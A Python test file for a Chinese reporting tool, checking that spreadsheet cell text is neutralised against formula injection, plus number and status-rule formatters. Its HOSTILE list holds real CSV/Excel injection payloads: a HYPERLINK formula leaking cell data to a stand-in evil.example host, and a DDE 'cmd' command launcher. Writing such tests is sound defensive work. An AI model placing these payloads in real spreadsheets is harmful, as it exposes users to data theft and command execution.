"""Cell-safe text and the small formatters shared by the Word and Excel writers."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from jxtrack.present.outputs import clean, neutralise
from jxtrack.reports.excel import put
from jxtrack.reports.text import num, pp

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "-A1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r",
    "\r=1+1",
    "\n=1",
    "\x00",
    "\x00=1",
    "\x07@x",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("s", HOSTILE)
def test_hostile_text_is_neutralised(s):
    out = neutralise(s)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    assert "\x00" not in out and "\x07" not in out
    if out:
        assert out.startswith("'")


@pytest.mark.parametrize("s", ["南湖区", "受订单下滑影响", "1-10月", "80%", "a=b", "", "说明：-2 个",
                               # plain numbers are read as numbers, never as formulas
                               "-2", "+1", "-10.4", "+3.5", "-1,234.5", "-2%"])
def test_ordinary_text_is_kept(s):
    assert neutralise(s) == s


def test_no_hostile_string_becomes_a_formula_in_a_saved_workbook():
    wb = Workbook()
    ws = wb.active
    for i, s in enumerate(HOSTILE, start=1):
        put(ws, i, 1, s)
    buf = io.BytesIO()
    wb.save(buf)
    ws2 = load_workbook(io.BytesIO(buf.getvalue())).active
    for i, s in enumerate(HOSTILE, start=1):
        c = ws2.cell(row=i, column=1)
        assert c.data_type != "f", (s, c.value)
        # a text cell holding the county's text exactly (less what XML cannot hold), no apostrophe
        if clean(s).strip():
            assert c.data_type == "s" and c.value == clean(s), (s, c.value)
            assert c.quotePrefix, s  # Excel keeps it text when the cell is edited
    assert ws2.cell(row=1, column=1).value == HOSTILE[0]
    assert ws2.cell(row=3, column=1).value == "-2+3"


def test_numbers_stay_numbers():
    wb = Workbook()
    c = put(wb.active, 1, 1, -2.5, "0.0")
    assert c.value == -2.5 and c.data_type == "n"
    assert put(wb.active, 2, 1, float("nan")).value is None


def test_clean_removes_what_xml_cannot_hold():
    assert clean("a\x00b\x1fc\td\ne") == "abc\td\ne"


def test_number_formats():
    assert num(1300, "个") == "1,300"
    assert num(356.3, "个") == "356.3"
    assert num(219.789, "万元/亩") == "219.79"
    assert num(500.0, "亿元") == "500"
    assert num(None, "个") == "—"
    assert pp(3.44) == "+3.4" and pp(-10.45) == "-10.4" or pp(-10.45) == "-10.5"
    assert pp(0.04) == "0.0"


def test_light_rule_words_come_from_the_thresholds():
    import pandas as pd

    from jxtrack.reports.text import light_rules

    ind = pd.DataFrame({"short_name": ["甲", "乙", "丙"], "green_min_pp": [0, 0, 0],
                        "yellow_min_pp": [-10, -10, -5]})
    rule, other = light_rules(ind)
    assert rule == {"green": "达到或快于序时进度", "yellow": "落后序时进度不超过10个百分点",
                    "red": "落后超过10个百分点"}
    assert other == "（丙：绿=达到或快于序时进度，黄=落后序时进度不超过5个百分点）"
    rule, other = light_rules(ind.assign(yellow_min_pp=-8))
    assert rule["yellow"] == "落后序时进度不超过8个百分点" and rule["red"] == "落后超过8个百分点" and other == ""
